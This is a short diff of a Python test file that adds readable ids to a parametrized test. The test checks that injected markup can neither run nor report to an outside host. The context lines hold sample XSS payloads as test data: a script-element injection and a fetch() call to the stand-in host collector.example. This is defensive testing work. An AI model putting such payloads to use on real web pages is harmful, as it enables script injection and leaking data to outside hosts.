@@ -260,6 +260,7 @@ def test_hostile_text_is_data(opened: Open, sample: Result) -> None:
         "const s = document.createElement('script'); s.textContent = 'window.hacked=1'; document.body.append(s)",
         "fetch('https://collector.example/').then(() => { window.hacked = 1 }, () => {})",
     ],
+    ids=["handler", "script", "request"],
 )
 def test_even_markup_that_got_in_could_not_run_or_report(
     opened: Open, sample: Result, attack: str
